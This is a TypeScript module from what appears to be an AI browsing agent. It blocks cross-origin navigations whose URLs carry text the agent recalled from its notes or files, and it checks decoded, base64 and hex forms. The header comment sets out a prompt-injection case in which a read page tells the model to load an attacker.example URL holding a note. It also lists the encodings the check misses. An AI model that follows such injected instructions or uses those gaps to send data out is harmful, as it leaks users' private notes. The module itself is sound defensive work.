/**
 * What keeps the agent's own store — recalled notes, scratch files — from leaving through a URL. A page
 * the agent reads can tell the model to recall a note and load `https://attacker.example/?d=<note>`;
 * until the user approves such navigations one by one, the agent refuses them itself: a `navigate` or
 * `tab_open` to another origin than the tab's current page, whose URL carries text this chat recalled
 * or read from its files, never reaches the daemon.
 *
 * "Carries" is checked on letters and digits only, case folded, in the URL as written, percent-decoded
 * (up to three times, `+` as a space), and in every long base64, base64url or hex run of it decoded:
 * any 10 consecutive letters or digits of what was read (the whole of a shorter text of at least 6)
 * found there is enough. Residual: text cut into pieces shorter than that, or encoded otherwise
 * (reversed, enciphered, spelled out), or carried by other means than a URL (typed into a form of the
 * other site) is not recognised.
 */

const WINDOW = 10;
const MIN_CHARS = 6;
/** The longest URL a tool accepts (the protocol's); the argument check refuses a longer one. */
const URL_MAX = 8192;
/** What one chat keeps of what it read, in normalized characters; older reads go first. */
const LEDGER_MAX_CHARS = 2_000_000;

function normalize(text: string): string {
  return text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, '');
}

function decodeRepeatedly(text: string): string[] {
  const out = [text];
  let current = text;
  for (let i = 0; i < 3; i++) {
    let next: string;
    try {
      next = decodeURIComponent(current.replace(/\+/g, ' '));
    } catch {
      break;
    }
    if (next === current) break;
    out.push(next);
    current = next;
  }
  return out;
}

/** Long runs that may be base64, base64url or hex, decoded as UTF-8. */
function decodedRuns(text: string): string[] {
  const out: string[] = [];
  for (const [run] of text.matchAll(/[A-Za-z0-9+/_-]{12,}={0,2}/g)) {
    const b64 = run.replace(/-/g, '+').replace(/_/g, '/');
    out.push(Buffer.from(b64, 'base64').toString('utf8'));
    // Base64 of text that did not start on a 3-byte boundary: try the other alignments too.
    for (const cut of [1, 2, 3]) out.push(Buffer.from(b64.slice(cut), 'base64').toString('utf8'));
  }
  for (const [run] of text.matchAll(/(?:[0-9a-fA-F]{2}){6,}/g))
    out.push(Buffer.from(run, 'hex').toString('utf8'));
  return out;
}

/** Every normalized form of a URL the check looks in. */
function haystacks(url: string): string[] {
  const forms = decodeRepeatedly(url);
  return [...forms, ...forms.flatMap(decodedRuns)].map(normalize).filter((h) => h !== '');
}

/** What one chat read out of its notes and files, and whether a URL carries any of it. */
export class ReadLedger {
  private pieces: string[] = [];
  private size = 0;

  add(texts: readonly string[]): void {
    for (const text of texts) {
      const piece = normalize(text).slice(0, LEDGER_MAX_CHARS);
      if (piece.length < MIN_CHARS) continue;
      this.pieces.push(piece);
      this.size += piece.length;
    }
    while (this.size > LEDGER_MAX_CHARS && this.pieces.length > 0) {
      this.size -= this.pieces[0]?.length ?? 0;
      this.pieces.shift();
    }
  }

  get empty(): boolean {
    return this.pieces.length === 0;
  }

  carriedBy(url: string): boolean {
    if (this.pieces.length === 0) return false;
    const hays = haystacks(url.slice(0, URL_MAX));
    // The URL's windows by a rolling hash, so that a long read is scanned without cutting strings;
    // a hash that matches is confirmed on the text itself.
    const windows = new Set<string>();
    const hashes = new Set<number>();
    for (const hay of hays)
      rollingHashes(hay, (hash, end) => {
        hashes.add(hash);
        windows.add(hay.slice(end - WINDOW, end));
        return false;
      });
    for (const piece of this.pieces) {
      if (piece.length < WINDOW) {
        if (hays.some((hay) => hay.includes(piece))) return true;
        continue;
      }
      const hit = rollingHashes(
        piece,
        (hash, end) => hashes.has(hash) && windows.has(piece.slice(end - WINDOW, end)),
      );
      if (hit) return true;
    }
    return false;
  }
}

const BASE = 257;
/** BASE^(WINDOW-1), modulo 2^32. */
const TOP = (() => {
  let top = 1;
  for (let i = 1; i < WINDOW; i++) top = Math.imul(top, BASE) >>> 0;
  return top;
})();

/** Calls `visit` with the hash of every WINDOW-long run of `text` and where it ends; stops on true. */
function rollingHashes(text: string, visit: (hash: number, end: number) => boolean): boolean {
  let hash = 0;
  for (let i = 0; i < text.length; i++) {
    if (i >= WINDOW) hash = (hash - Math.imul(text.charCodeAt(i - WINDOW), TOP)) >>> 0;
    hash = (Math.imul(hash, BASE) + text.charCodeAt(i)) >>> 0;
    if (i >= WINDOW - 1 && visit(hash, i + 1)) return true;
  }
  return false;
}

/** The origin of a URL, or null when it has none a navigation could be compared by. */
export function originOf(url: string): string | null {
  try {
    const origin = new URL(url).origin;
    return origin === 'null' ? null : origin;
  } catch {
    return null;
  }
}

const FENCE_LINE = /^<<(?:end )?untrusted-data [^\n]*$/;

/** The text of a stored tool result without its untrusted-data fence lines. */
export function unfenced(content: string): string {
  return content
    .split('\n')
    .filter((line) => !FENCE_LINE.test(line))
    .join('\n');
}
